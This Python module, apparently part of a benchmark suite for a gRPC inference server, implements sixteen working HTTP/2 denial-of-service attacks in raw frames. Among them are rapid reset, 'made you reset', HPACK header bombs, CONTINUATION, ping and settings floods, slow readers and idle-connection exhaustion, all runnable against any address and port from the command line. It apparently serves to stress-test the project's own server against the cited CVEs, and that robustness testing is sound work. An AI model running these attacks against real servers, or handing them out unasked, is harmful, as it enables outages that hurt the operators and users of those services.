"""Abuse of HTTP/2 in raw frames: resets, stalled bodies, idle connections, floods, slow readers.

Run as `python -m fitserve_benchmarks.hostile_frames ADDRESS PORT KIND SECONDS`, so that an attacker's work is not the
innocents'; it prints how many frames or connections it spent.
Sources: RFC 9113 (frames), RFC 7541 (header blocks), CVE-2023-44487 (rapid reset), CVE-2025-8671 (made you reset),
CVE-2019-9518 (empty frames), CERT VU#421644 (continuation flood).
"""

from __future__ import annotations

import resource
import select
import socket
import sys
import time
from collections.abc import Callable, Mapping
from contextlib import ExitStack
from typing import Final

from fitserve_benchmarks.http2 import PREFACE, frame, frame_message, header_block, indexed_header_blocks

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
_ACK, _END_STREAM, _END_HEADERS = 0x1, 0x1, 0x4
_CANCEL: Final = (8).to_bytes(4, "big")
_TIMEOUT_S: Final = 5.0
_STREAMS: Final = 63
"""Below the server's limit of streams on one connection: what goes beyond it is cheap to refuse."""

_MANY_RESETS: Final = 100_000
_FEW_RESETS: Final = 5_000

_MOST_IDLE: Final = 10_000

_LIVE: Final = "/inference.GRPCInferenceService/ServerMetadata"
_PREDICT: Final = "/fitserve.inference.v1.InferenceService/Predict"

Attack = Callable[[str, int, float], int]


def rapid_reset(host: str, port: int, until_s: float) -> int:
    """Begins calls and resets them at once, as many as fit."""
    headers, cancel = header_block(f"{host}:{port}", _PREDICT), (8).to_bytes(4, "big")

    def burst(first: int) -> bytes:
        streams = range(first, first + 2 * 200, 2)
        pairs = (frame(_HEADERS, _END_HEADERS, s, headers) + frame(_RST_STREAM, 0, s, cancel) for s in streams)
        return b"".join(pairs)

    return _flood(host, port, until_s, burst, 200)


def prepared_resets(host: str, port: int, until_s: float) -> int:
    """Begins calls and resets them as fast as the network takes it: the bytes are made beforehand, 28 a call."""
    return _replay(host, port, until_s, _MANY_RESETS)


def resets_and_reconnects(host: str, port: int, until_s: float) -> int:
    """The same, on another connection after each 5,000, so that no look at one connection is of use."""
    return _replay(host, port, until_s, _FEW_RESETS)


def made_resets(host: str, port: int, until_s: float) -> int:
    """Has the server reset calls that it has begun, by messages and windows that may not be."""
    headers = header_block(f"{host}:{port}", _PREDICT)
    wrongs: tuple[Callable[[int], bytes], ...] = (
        lambda stream: frame(_DATA, 0, stream, b"\7\0\0\0\4abcd"),
        lambda stream: frame(_WINDOW_UPDATE, 0, stream, bytes(4)),
        lambda stream: frame(_WINDOW_UPDATE, 0, stream, (2**31 - 1).to_bytes(4, "big")),
        lambda stream: frame(_DATA, _END_STREAM, stream, b"") + frame(_DATA, 0, stream, b"late"),
    )

    def burst(first: int) -> bytes:
        wrong = wrongs[first // 400 % len(wrongs)]
        return b"".join(
            frame(_HEADERS, _END_HEADERS, stream, headers) + wrong(stream) for stream in range(first, first + 400, 2)
        )

    return _flood(host, port, until_s, burst, 200)


def empty_frames(host: str, port: int, until_s: float) -> int:
    """Begins a call and sends data frames without data."""
    headers = header_block(f"{host}:{port}", _PREDICT)

    def burst(first: int) -> bytes:
        return (frame(_HEADERS, _END_HEADERS, 1, headers) if first == 1 else b"") + frame(_DATA, 0, 1, b"") * 1_000

    return _flood(host, port, until_s, burst, 1_000)


def header_bombs(host: str, port: int, until_s: float) -> int:
    """Puts a header of 4,000 bytes into the table and names it 10,000 times in each call, in one byte each."""
    headers = header_block(f"{host}:{port}", _PREDICT)
    large = b"\x40\x01a" + b"\x7f\xa1\x1e" + b"b" * 4_000
    newest = b"\xbe"

    def burst(first: int) -> bytes:
        bombs = (
            frame(_HEADERS, _END_HEADERS, stream, headers + large + newest * 10_000) for stream in (first, first + 2)
        )
        return b"".join(bombs)

    return _flood(host, port, until_s, burst, 2)


def streams_and_goaway(host: str, port: int, until_s: float) -> int:
    """Begins as many calls as may be, says goodbye, and begins more."""
    headers = header_block(f"{host}:{port}", _PREDICT)

    def burst(first: int) -> bytes:
        calls = [frame(_HEADERS, _END_HEADERS, stream, headers) for stream in range(first, first + 400, 2)]
        return b"".join(calls[:100]) + frame(_GOAWAY, 0, 0, bytes(8)) + b"".join(calls[100:])

    return _flood(host, port, until_s, burst, 200)


def window_flood(host: str, port: int, until_s: float) -> int:
    """Widens its window by one byte, without an end, and changes every stream's by settings."""
    narrow, wide = (frame(_SETTINGS, 0, 0, b"\0\4" + size.to_bytes(4, "big")) for size in (0, 65_535))
    step = (1).to_bytes(4, "big")
    return _flood(host, port, until_s, lambda _: (frame(_WINDOW_UPDATE, 0, 0, step) * 8 + narrow + wide) * 20, 200)


def stalled_bodies(host: str, port: int, until_s: float) -> int:
    """Begins calls on many connections, says half of a message's length, and waits."""
    headers = header_block(f"{host}:{port}", _PREDICT)
    calls = b"".join(
        frame(_HEADERS, _END_HEADERS, s, headers) + frame(_DATA, 0, s, b"\0\0") for s in range(1, 2 * _STREAMS, 2)
    )
    return _hold(host, port, until_s, 64, PREFACE + frame(_SETTINGS, 0, 0, b"") + calls) * _STREAMS


def silent_connections(host: str, port: int, until_s: float) -> int:
    """Opens connections and says nothing."""
    return _hold(host, port, until_s, 500, b"")


def idle_connections(host: str, port: int, until_s: float) -> int:
    """Opens connections, as many as there are descriptors for, shakes hands and begins no call."""
    # Half of them: where it runs in the server's process, as tests have it, the server needs the other half.
    most = min(_MOST_IDLE, resource.getrlimit(resource.RLIMIT_NOFILE)[0] // 2 - 100)
    # Not all at once: that would be churn.
    return _hold(host, port, until_s, most, PREFACE + frame(_SETTINGS, 0, 0, b""), pause_s=0.001)


def slow_readers(host: str, port: int, until_s: float) -> int:
    """Asks on many connections and never reads an answer, nor lets the server send one."""
    headers = header_block(f"{host}:{port}", _LIVE)
    no_window = frame(_SETTINGS, 0, 0, (4).to_bytes(2, "big") + bytes(4))
    asking = frame_message(b"")
    calls = b"".join(
        frame(_HEADERS, _END_HEADERS, s, headers) + frame(_DATA, _END_STREAM, s, asking)
        for s in range(1, 2 * _STREAMS, 2)
    )
    return _hold(host, port, until_s, 64, PREFACE + no_window + calls) * _STREAMS


def ping_flood(host: str, port: int, until_s: float) -> int:
    """Sends pings without an end."""
    return _flood(host, port, until_s, lambda _: frame(_PING, 0, 0, bytes(8)) * 200, 200)


def settings_flood(host: str, port: int, until_s: float) -> int:
    """Sends settings without an end, each to be acknowledged."""
    return _flood(host, port, until_s, lambda _: frame(_SETTINGS, 0, 0, bytes((0, 3, 0, 0, 0, 100))) * 200, 200)


def continuation_flood(host: str, port: int, until_s: float) -> int:
    """Begins headers and never ends them."""
    headers = header_block(f"{host}:{port}", _PREDICT)
    more = b"\x00\x01a" + b"\x7f\x81\x7c" + b"b" * 16_000

    def burst(first: int) -> bytes:
        return (frame(_HEADERS, 0, 1, headers) if first == 1 else b"") + frame(_CONTINUATION, 0, 1, more) * 20

    return _flood(host, port, until_s, burst, 20)


def churn(host: str, port: int, until_s: float) -> int:
    """Opens connections, begins a call and hangs up."""
    hello = PREFACE + frame(_SETTINGS, 0, 0, b"")
    call = frame(_HEADERS, _END_HEADERS, 1, header_block(f"{host}:{port}", _PREDICT))
    count = 0
    while time.monotonic() < until_s:
        with socket.create_connection((host, port), timeout=_TIMEOUT_S) as opened:
            opened.sendall(hello + call)
        count += 1
    return count


ATTACKS: Final[Mapping[str, Attack]] = {
    "rapid reset": rapid_reset,
    "prepared resets": prepared_resets,
    "reset and reconnect": resets_and_reconnects,
    "made you reset": made_resets,
    "empty data frames": empty_frames,
    "header bombs": header_bombs,
    "streams and goaway": streams_and_goaway,
    "window flood": window_flood,
    "stalled bodies": stalled_bodies,
    "silent connections": silent_connections,
    "idle connections": idle_connections,
    "slow readers": slow_readers,
    "ping flood": ping_flood,
    "settings flood": settings_flood,
    "continuation flood": continuation_flood,
    "connection churn": churn,
}
"""Attack to what carries it out until a monotonic time, and gives how many frames or connections it took."""


def _flood(host: str, port: int, until_s: float, burst: Callable[[int], bytes], burst_count: int) -> int:
    """Sends bursts, and connects anew where the server hangs up; what it answers is thrown away."""
    count = 0
    while time.monotonic() < until_s:
        try:
            with socket.create_connection((host, port), timeout=_TIMEOUT_S) as opened:
                opened.sendall(PREFACE + frame(_SETTINGS, 0, 0, b""))
                count += _bursts(opened, until_s, burst, burst_count)
        except OSError:
            continue
    return count


def _replay(host: str, port: int, until_s: float, reset_count: int) -> int:
    """Sends prepared resets, on a new connection each time that all are out or the server has hung up."""
    first, again = indexed_header_blocks(f"{host}:{port}", _PREDICT)
    pairs = (
        frame(_HEADERS, _END_HEADERS, stream, first if stream == 1 else again) + frame(_RST_STREAM, 0, stream, _CANCEL)
        for stream in range(1, 2 * reset_count, 2)
    )
    prepared, count = memoryview(b"".join(pairs)), 0
    while time.monotonic() < until_s:
        try:
            with socket.create_connection((host, port), timeout=_TIMEOUT_S) as opened:
                opened.sendall(PREFACE + frame(_SETTINGS, 0, 0, b""))
                # More calls than may be open are taken only once the server's settings are acknowledged.
                opened.recv(1 << 16)
                opened.sendall(frame(_SETTINGS, _ACK, 0, b""))
                count += _send_all(opened, prepared, until_s) * reset_count // len(prepared)
        except OSError:
            continue
    return count


def _send_all(opened: socket.socket, prepared: memoryview, until_s: float) -> int:
    """Sends, and reads what comes, until all is out, the server hangs up, or the time is over; returns the bytes."""
    opened.setblocking(False)
    sent = 0
    while sent < len(prepared) and (left_s := until_s - time.monotonic()) > 0:
        readable, writable, _ = select.select([opened], [opened], [], left_s)
        try:
            if readable and not opened.recv(1 << 20):
                break
            if writable:
                sent += opened.send(prepared[sent : sent + 65_536])
        except OSError:
            break
    return sent


def _bursts(opened: socket.socket, until_s: float, burst: Callable[[int], bytes], burst_count: int) -> int:
    first, count = 1, 0
    while time.monotonic() < until_s:
        try:
            opened.sendall(burst(first))
            # Asked first: with a time limit, `recv` would wait for so long where the server says nothing.
            if select.select([opened], [], [], 0)[0] and not opened.recv(1 << 20):
                break
        except OSError:
            break
        first += 2 * burst_count
        count += burst_count
    return count


def _hold(host: str, port: int, until_s: float, connections: int, said: bytes, *, pause_s: float = 0.0) -> int:
    """Opens connections that say one thing and stay; gives how many there were."""
    count = 0
    with ExitStack() as stack:
        while time.monotonic() < until_s:
            if count < connections:
                opened = stack.enter_context(socket.create_connection((host, port), timeout=_TIMEOUT_S))
                opened.sendall(said)
                count += 1
                time.sleep(pause_s)
            else:
                time.sleep(0.05)
    return count


def main() -> None:
    """Attacks, and prints how much."""
    host, port, kind, seconds = sys.argv[1:]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 1 << 16) if hard > 0 else 1 << 16, hard))
    print(ATTACKS[kind](host, int(port), time.monotonic() + float(seconds)))


if __name__ == "__main__":
    main()
